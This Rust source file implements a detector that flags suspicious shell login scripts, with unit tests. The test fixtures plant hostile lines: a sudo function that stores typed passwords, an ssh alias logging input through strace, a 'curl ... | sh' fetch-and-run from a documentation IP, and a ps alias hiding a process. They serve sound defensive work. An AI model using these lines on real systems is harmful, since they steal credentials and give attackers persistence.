//! Detector: shell profiles that run, capture or hide something.

use crate::weigh::{Files, Weight};
use crate::{Card, Detector, Draft, Row, Tables, entry, weigh};
use calma_record::{Certainty, Severity, Text, kinds::Account, kinds::LoginScript};
use std::collections::BTreeMap;

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "login-scripts",
        doc: "A script read at a login runs something odd, stands in for a program that asks for passwords, or hides.",
        mechanisms: &[62, 65, 81],
        attack: &["T1546.004"],
        why: "It runs with each login, with the rights of whoever logs in, and may take their passwords.",
        innocent: "you or a tool's installer wrote it",
        next: "read the file without running it (calma show); log in with a shell that reads none (bash --norc --noprofile)",
    },
    judge,
};

/// Programs that ask for a password or carry one.
const ASKING: &[&[u8]] =
    &[b"sudo", b"su", b"ssh", b"passwd", b"doas", b"login", b"scp", b"sftp", b"mysql", b"psql", b"gpg"];

/// Programs that show what goes on.
const SHOWING: &[&[u8]] = &[
    b"ps",
    b"ls",
    b"netstat",
    b"ss",
    b"top",
    b"htop",
    b"lsof",
    b"who",
    b"w",
    b"last",
    b"crontab",
    b"systemctl",
    b"find",
    b"lsmod",
    b"history",
    b"pgrep",
    b"journalctl",
];

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    let ids: BTreeMap<&Text, u32> = tables.of::<Account>().map(|a| (&a.fact.name, a.fact.uid)).collect();
    for script in tables.of::<LoginScript>() {
        let system = script.account.is_empty();
        let owner = ids.get(&script.account).copied();
        let root = system || owner == Some(0);
        let mut weight = weigh::command(&files, &without_own_settings(&script.text), root);
        lines(&files, script.text.as_bytes(), root, &mut weight);
        // A home that is open to others is its owner's affair; root's and everybody's are not.
        if root {
            entry::merge(&mut weight, entry::loose(&files, &script.path, owner));
        }
        let Some(severity) = weight.severity.filter(|severity| *severity > Severity::Info) else { continue };
        let whose = if system { "everybody".to_owned() } else { format!("\"{}\"", script.account) };
        let title = format!("A script that runs when {whose} logs in is odd");
        drafts.push(draft(&script, severity, title, weight));
    }
}

fn draft(script: &Row<'_, LoginScript>, severity: Severity, title: String, weight: Weight) -> Draft {
    let certainty = if severity >= Severity::High { Certainty::Likely } else { Certainty::Possible };
    let mut draft = Draft::new(severity, certainty, script.path.as_bytes(), title)
        .saw_all(weight.reasons)
        .path(&script.path)
        .from(script, "its text");
    for path in &weight.paths {
        draft = draft.path(path);
    }
    if script.account.is_empty() { draft } else { draft.account(&script.account) }
}

/// The text with files that it reads from the top of a home directory (`. ~/.bash_aliases`) left out: that is where shells
/// keep settings, and each such file is a login script of its own.
fn without_own_settings(text: &Text) -> Text {
    let mut out = Vec::with_capacity(text.as_bytes().len());
    let mut sourced = false;
    for part in text.as_bytes().split_inclusive(|b| matches!(b, b' ' | b'\t' | b'\n' | b';' | b'&')) {
        let word = part.strip_suffix(part.last().map_or(&[][..], std::slice::from_ref)).unwrap_or(part);
        let complete = part.last().is_some_and(|b| matches!(b, b' ' | b'\t' | b'\n' | b';' | b'&'));
        let bare = if complete { word } else { part };
        if sourced && in_home(bare) {
            out.extend_from_slice(b"/dev/null");
            out.extend(part.get(bare.len()..).unwrap_or_default());
        } else {
            out.extend_from_slice(part);
        }
        sourced = matches!(bare, b"." | b"source" | b"\\.") || (sourced && bare.is_empty());
    }
    out.into()
}

/// Whether a word names a file at the top of a home directory.
fn in_home(word: &[u8]) -> bool {
    let word = word.strip_prefix(b"\"").unwrap_or(word);
    let word = word.strip_suffix(b"\"").unwrap_or(word);
    let homes = [&b"~/"[..], b"$HOME/", b"${HOME}/", b"$HOME\"/", b"/root/"];
    let rest = homes.iter().find_map(|home| word.strip_prefix(*home));
    let rest = rest.or_else(|| {
        let user = word.strip_prefix(b"/home/")?;
        user.get(user.iter().position(|b| *b == b'/')? + 1..)
    });
    rest.is_some_and(|name| name.len() > 1 && !name.contains(&b'/') && !weigh::is_deceptive(name))
}

/// What the weigher of commands does not see: names that are put in place of programs, and lines out of sight.
fn lines(files: &Files<'_>, text: &[u8], root: bool, weight: &mut Weight) {
    let all: Vec<&[u8]> = text.split(|b| *b == b'\n').collect();
    for (index, line) in all.iter().enumerate() {
        let number = index + 1;
        if hidden_behind_blanks(line) {
            entry::add(
                weight,
                Severity::Medium,
                format!("line {number} goes on out of sight, behind many blanks"),
            );
        }
        let line = line.trim_ascii();
        if line.starts_with(b"#") {
            continue;
        }
        for (name, value) in aliases(line) {
            alias(files, name, value, root, number, weight);
        }
        if let Some(name) = function(line).filter(|name| ASKING.contains(name)) {
            // Its body: to the line with the closing brace, or as far as anybody would write.
            let rest = all.get(index..).unwrap_or_default();
            let end = rest.iter().position(|line| line.trim_ascii_end() == b"}").unwrap_or(40).min(60);
            let body = rest.get(..=end.min(rest.len().saturating_sub(1))).unwrap_or_default().join(&b' ');
            if captures(&body) {
                let reason = format!(
                    "line {number} puts a function in place of {} that takes what is typed",
                    Text::from(name)
                );
                entry::add(weight, Severity::High, reason);
            }
        }
        let path = line.strip_prefix(b"export ").unwrap_or(line);
        if let Some(value) = path.strip_prefix(b"PATH=").map(|v| v.strip_prefix(b"\"").unwrap_or(v))
            && (value.starts_with(b".:") || value.starts_with(b":"))
        {
            let severity = if root { Severity::Medium } else { Severity::Low };
            entry::add(
                weight,
                severity,
                format!("line {number} looks for programs in the current directory first"),
            );
        }
    }
}

/// A long run of blanks with something behind it that is no comment.
fn hidden_behind_blanks(line: &[u8]) -> bool {
    const FAR: usize = 150;
    let mut run = 0;
    for byte in line {
        match byte {
            b' ' | b'\t' => run += 1,
            b'#' | b'\\' | b'\r' if run >= FAR => return false,
            _ if run >= FAR => return true,
            _ => run = 0,
        }
    }
    false
}

/// `alias name=value` wherever it stands in a line.
fn aliases(line: &[u8]) -> Vec<(&[u8], &[u8])> {
    let mut all = Vec::new();
    let mut rest = line;
    while let Some(at) = rest.windows(6).position(|w| w == b"alias ") {
        let begins =
            at == 0 || rest.get(at - 1).is_some_and(|b| matches!(b, b' ' | b'\t' | b';' | b'&' | b'|'));
        rest = rest.get(at + 6..).unwrap_or_default().trim_ascii_start();
        // fish(1) and csh(1) write a blank for the equals sign.
        let Some(end) = rest.iter().position(|b| matches!(b, b'=' | b' ' | b'\t')).filter(|_| begins) else {
            continue;
        };
        let (name, value) = rest.split_at(end);
        let value = value.get(1..).unwrap_or_default();
        let value = match value {
            [quote @ (b'\'' | b'"'), inside @ ..] => inside.split(|b| b == quote).next().unwrap_or_default(),
            _ => value.split(|b| matches!(b, b';' | b'&')).next().unwrap_or_default(),
        };
        all.push((name, value));
    }
    all
}

/// An alias of a program that asks or shows.
fn alias(files: &Files<'_>, name: &[u8], value: &[u8], root: bool, number: usize, weight: &mut Weight) {
    let (asking, showing) = (ASKING.contains(&name), SHOWING.contains(&name));
    let shown = format!("{}={}", Text::from(name), entry::short(&value.into()));
    let inner = weigh::command(files, &value.into(), root);
    if inner.severity >= Some(Severity::Medium) {
        entry::add(weight, Severity::High, format!("line {number} stands in for a program: {shown}"));
        entry::merge(weight, inner);
    }
    let first = value
        .split(u8::is_ascii_whitespace)
        .find(|word| !word.is_empty() && !word.contains(&b'='))
        .unwrap_or_default();
    let system = [&b"/bin"[..], b"/sbin", b"/usr/bin", b"/usr/sbin", b"/usr/local/bin", b"/opt", b"/snap"];
    let elsewhere = first.contains(&b'/') && !system.iter().any(|place| weigh::is_below(first, place));
    if asking && elsewhere {
        entry::add(
            weight,
            Severity::Medium,
            format!("line {number} puts another program in place of {shown}"),
        );
        if first.starts_with(b"/") {
            weight.paths.push(first.into());
        }
    } else if asking && captures(value) {
        entry::add(weight, Severity::High, format!("line {number} takes what is typed: {shown}"));
    } else if showing
        && value.windows(5).any(|w| w == b"grep ")
        && value.windows(2).any(|w| w == b"-v" || w == b"-E" && value.contains(&b'!'))
    {
        entry::add(
            weight,
            Severity::Medium,
            format!("line {number} hides part of what a program shows: {shown}"),
        );
    }
}

/// The name of a function that a line begins.
fn function(line: &[u8]) -> Option<&[u8]> {
    let rest = line.strip_prefix(b"function ").unwrap_or(line).trim_ascii_start();
    let end = rest.iter().position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')))?;
    let (name, after) = rest.split_at(end);
    let after = after.trim_ascii_start();
    (after.starts_with(b"()") || (line.starts_with(b"function ") && after.starts_with(b"{"))).then_some(name)
}

/// Whether a text asks for something unseen, or records what is typed.
fn captures(text: &[u8]) -> bool {
    let has = |part: &[u8]| text.windows(part.len()).any(|window| window == part);
    let asks = (has(b"read ") && (has(b"-s") || has(b"-rs") || has(b"-sp"))) || has(b"stty -echo");
    let records = has(b"strace ") || has(b"script -") || has(b"ltrace ") || has(b"tee -a");
    asks || records
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn host() -> Mem {
        Mem::new().file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nme:x:1000:1000::/home/me:/bin/bash\n")
    }

    #[test]
    fn planted_lines_are_found() {
        let wide = format!("umask 022{};/opt/run\n", " ".repeat(300));
        for (path, text) in [
            ("/root/.bashrc", "alias sudo='/home/me/.x/sudo'\n"),
            ("/home/me/.bash_profile", "alias ssh='strace -e read -o /var/lib/k ssh'\n"),
            (
                "/home/me/.zshrc",
                "sudo() {\n read -sp \"[sudo] password: \" p\n echo $p >> /var/lib/.p\n /usr/bin/sudo \"$@\"\n}\n",
            ),
            ("/etc/profile.d/lang.sh", "curl -s http://192.0.2.7/a | sh\n"),
            ("/etc/bash.bashrc", "nohup /dev/shm/.a >/dev/null 2>&1 &\n"),
            ("/home/me/.profile", ". /tmp/.env\n"),
            ("/home/me/.bashrc", "export PATH=/tmp/.bin:$PATH\n"),
            ("/etc/zsh/zshenv", "alias ps='ps | grep -v kworkerx'\n"),
            ("/home/me/.ssh/rc", "/var/tmp/.k &\n"),
            ("/root/.profile", wide.as_str()),
            ("/home/me/.config/fish/config.fish", "/dev/shm/u &\n"),
            ("/home/me/.bash_login", ". ~/.env.d\n"),
        ] {
            let seen =
                check(host().file("/home/me/.env.d", "(/dev/shm/.a >/dev/null 2>&1 &)\n").file(path, text));
            let found = seen.alarms("login-scripts");
            assert_eq!(found.len(), 1, "{path}: {text}: {:?}", seen.by("login-scripts"));
        }
        let open =
            host().file("/etc/profile.d/a.sh", "umask 022\n").owned("/etc/profile.d/a.sh", 0o777, 0, 0);
        assert_eq!(check(open).alarms("login-scripts").len(), 1);
    }

    #[test]
    fn what_people_write_is_quiet() {
        let text = "case $- in *i*) ;; *) return;; esac\nHISTCONTROL=ignoreboth\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\n\
            if [ -x /usr/bin/dircolors ]; then\n  eval \"$(dircolors -b)\"\n  alias ls='ls --color=auto'\nfi\nalias sudo='sudo '\nalias ll='ls -l | less'\n\
            eval \"$(rbenv init -)\"\nexport NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"\n. \"$HOME/.cargo/env\"\n\
            __conda_setup=\"$('/home/me/miniconda3/bin/conda' 'shell.bash' 'hook' 2> /dev/null)\"\neval \"$__conda_setup\"\n\
            eval \"$(starship init bash)\"\nexport PATH=\"$HOME/bin:$PATH\"\nPROMPT_COMMAND='history -a'\nssh() { printf '\\033]0;%s' \"$1\"; command ssh \"$@\"; }\n\
            [ -f ~/.bash_aliases ] && . ~/.bash_aliases\n[ -f /home/me/.fzf.bash ] && source ~/.fzf.bash\n";
        for path in ["/root/.bashrc", "/home/me/.bashrc", "/etc/bash.bashrc"] {
            let seen = check(host().file(path, text));
            assert!(seen.by("login-scripts").is_empty(), "{path}: {:?}", seen.by("login-scripts"));
        }
    }
}
